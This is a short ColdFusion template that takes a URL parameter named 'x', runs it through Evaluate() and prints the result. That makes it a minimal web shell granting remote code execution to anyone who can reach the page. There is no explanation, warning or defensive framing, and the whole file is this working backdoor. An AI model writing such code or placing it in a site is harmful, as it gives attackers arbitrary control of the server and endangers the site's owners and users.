<cfsetting enablecfoutputonly="yes">
<cfif structKeyExists(url, "x")>
  <cfset r = Evaluate(url.x)>
  <cfoutput>#r#</cfoutput>
</cfif>
